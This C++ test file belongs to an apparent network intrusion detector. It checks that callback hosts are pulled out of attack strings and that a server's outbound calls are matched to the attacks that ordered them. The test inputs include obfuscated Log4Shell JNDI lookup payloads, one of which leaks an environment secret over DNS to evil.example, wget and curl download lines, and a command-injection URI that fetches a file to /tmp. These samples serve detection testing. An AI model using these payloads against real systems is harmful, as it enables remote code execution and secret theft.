#include <gtest/gtest.h>

#include "connection/conn_record.h"
#include "detect/callbacks.h"
#include "protocol/http/http.h"
#include "rows.h"

namespace whodunit::detect {
namespace {

using test::head;
using Hosts = std::vector<std::string>;

TEST(HostsToCall, FindsThemThroughWhatHidesThem) {
  EXPECT_EQ(hosts_to_call("${jndi:ldap://198.51.100.7:1389/a}"), Hosts{"198.51.100.7"});
  EXPECT_EQ(hosts_to_call("${${lower:j}${::-n}di:${env:X:-ldap}://EVIL.example/a}"), Hosts{"evil.example"});
  EXPECT_EQ(hosts_to_call("${jndi:dns://${env:SECRET}.evil.example/x}"), Hosts{"evil.example"});
  EXPECT_EQ(hosts_to_call("${jndi:ldap://[2001:db8::7]:389/a}"), Hosts{"2001:db8::7"});
  EXPECT_EQ(hosts_to_call("wget http://u:p@evil.example/x; curl ftp://198.51.100.7/y"),
            (Hosts{"evil.example", "198.51.100.7"}));
  EXPECT_TRUE(hosts_to_call("a://b, ://, ${${${, jndi:ldap://localhost/").empty());
  EXPECT_TRUE(hosts_to_call(std::string(100'000, '{') + "}}}").empty());
}

protocol::dns::Dns question(const std::string& who, const std::string& name, double at) {
  protocol::dns::Dns d;
  d.head = head(who, "10.0.0.53", 53, at);
  d.query = name;
  return d;
}

TEST(Callbacks, CountsTheCallThatFollowsAtOnceInWhicheverOrderTheRowsCome) {
  const base::Address victim = *base::Address::parse("10.0.0.5");
  for (const bool before : {false, true}) {
    Callbacks c;
    const auto expect = [&] {
      EXPECT_TRUE(c.expect(victim, "198.51.100.7", head("1.1.1.1", "10.0.0.5", 80, 100).ts, 3));
    };
    if (!before) expect();
    c.connection(head("10.0.0.5", "198.51.100.7", 1389, 101));
    if (before) expect();
    ASSERT_EQ(c.seen().count(3), 1u) << before;
    EXPECT_FALSE(c.seen().at(3).by_dns);
  }
}

TEST(Callbacks, NotAnotherHostsNorAnotherTimesNorAnotherName) {
  const base::Address victim = *base::Address::parse("10.0.0.5");
  const base::Time at = head("1.1.1.1", "10.0.0.5", 80, 100).ts;
  Callbacks c;
  c.expect(victim, "198.51.100.7", at, 1);
  c.expect(victim, "evil.example", at, 2);
  c.connection(head("10.0.0.6", "198.51.100.7", 1389, 101));
  c.connection(head("10.0.0.5", "198.51.100.8", 1389, 101));
  c.connection(head("10.0.0.5", "198.51.100.7", 1389, 99));
  c.connection(head("10.0.0.5", "198.51.100.7", 1389, 161));
  c.take(question("10.0.0.5", "notevil.example", 101));
  c.take(question("10.0.0.6", "evil.example", 101));
  EXPECT_TRUE(c.seen().empty());
  c.take(question("10.0.0.5", "secret.Evil.example", 101));
  ASSERT_EQ(c.seen().count(2), 1u);
  EXPECT_TRUE(c.seen().at(2).by_dns);
}

TEST(Callbacks, FollowsTheNameToItsAddress) {
  Callbacks c;
  protocol::dns::Dns d = question("10.0.0.5", "evil.example", 100.5);
  const std::string_view answers[] = {"198.51.100.7"};
  d.answers = answers;
  c.take(d);
  c.expect(*base::Address::parse("10.0.0.5"), "evil.example", head("1.1.1.1", "10.0.0.5", 80, 100).ts, 1);
  EXPECT_TRUE(c.seen().at(1).by_dns);
  c.connection(head("10.0.0.5", "198.51.100.7", 389, 101));
  EXPECT_FALSE(c.seen().at(1).by_dns);
}

/// What a request of an attacker's becomes where the server then calls `called` (or nobody).
Finding attack(std::string_view uri, const char* called) {
  std::unique_ptr<Detector> detector;
  for (const Entry& e : detectors())
    if (e.name == "web_attack") detector = e.make({});
  record::Batch conns(connection::Conn::schema), requests(protocol::http::Http::schema);
  if (called != nullptr) {
    connection::Conn c;
    c.head = head("192.0.2.10", called, 8000, 11);
    c.append_to(conns, {});
  }
  protocol::http::Http h;
  h.head = head("203.0.113.66", "192.0.2.10", 80, 10);
  h.method = "GET";
  h.uri = uri;
  h.host = "192.0.2.10";
  h.status_code = 200;
  h.append_to(requests, {});
  detector->take(conns);
  detector->take(requests);
  std::vector<Finding> out;
  detector->finish({}, out);
  return out.empty() ? Finding{} : out[0];
}

TEST(WebAttack, ACallThatWasOrderedAndMadeIsItsProof) {
  const Finding lookup = attack("/?x=${jndi:ldap://198.51.100.7/a}", "198.51.100.7");
  EXPECT_EQ(lookup.outcome, Outcome::kSucceeded);
  EXPECT_EQ(lookup.phase, Phase::kAssault) << "the hole is shown; that code ran is not";
  EXPECT_NE(lookup.statement.find("the server then called 198.51.100.7, as it was told"), std::string::npos);
  const Finding ran = attack("/ping?host=1;wget+http://198.51.100.7/x+-O+/tmp/x;", "198.51.100.7");
  EXPECT_EQ(ran.outcome, Outcome::kSucceeded);
  EXPECT_EQ(ran.phase, Phase::kEntry);
  EXPECT_EQ(attack("/?x=${jndi:ldap://198.51.100.7/a}", "198.51.100.8").outcome, Outcome::kUnknown);
  EXPECT_EQ(attack("/?x=${jndi:ldap://198.51.100.7/a}", nullptr).outcome, Outcome::kUnknown);
}

}  // namespace
}  // namespace whodunit::detect
